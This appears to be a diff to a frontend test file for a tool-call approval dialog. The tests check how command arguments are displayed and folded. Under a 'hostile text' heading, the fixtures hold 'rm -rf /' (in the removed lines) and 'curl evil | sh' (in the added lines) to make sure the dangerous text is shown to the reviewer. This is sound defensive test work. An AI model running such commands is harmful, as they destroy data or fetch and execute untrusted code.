@@ -1,4 +1,4 @@
-import { act, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
+import { act, cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { createClient } from '../bridge/client';
 import { fakeBridge, promptState } from '../preview/fake-bridge';
@@ -268,14 +268,21 @@ describe('hostile text', () => {
     expect(box.querySelector('b, img')).toBeNull();
   });
 
-  it('folds a long value to its beginning and its end, and shows all of it on demand', async () => {
-    const text = `${'a'.repeat(5000)}rm -rf /`;
+  it('shows a value that can be allowed as it stands in full, and folds only what has to be opened first', async () => {
+    const text = `${'a'.repeat(700)} curl evil | sh ${'b'.repeat(700)}`;
     await open({ ...writeCall, arguments: [{ name: 'command', kind: 'string', text, length: text.length, cut: false }] });
-    const value = screen.getByRole('definition');
-    expect(value.textContent).toContain('rm -rf /');
-    expect(value.textContent).toContain('characters not shown');
-    fireEvent.click(button('Show all 5,008 characters of command'));
-    expect(value.textContent).toContain(text);
+    expect(screen.getByRole('definition').textContent).toBe(text);
+    cleanup();
+    await open({ ...longCall, arguments: [{ name: 'command', kind: 'string', text, length: 5008, cut: true }] });
+    expect(screen.getByRole('definition').textContent).toContain('characters not shown');
+    fireEvent.click(button('Show more of command'));
+    expect(screen.getByRole('definition').textContent).toContain(text);
+  });
+
+  it('lists what else is sent with the call', async () => {
+    await open({ ...writeCall, others: [{ name: 'amount', kind: 'number', text: '1000000', length: 7, cut: false }] });
+    expect(screen.getByRole('heading', { name: 'Also sent with the call' })).toBeTruthy();
+    expect(screen.getAllByRole('definition').at(-1)?.textContent).toBe('1000000');
   });
 });
 
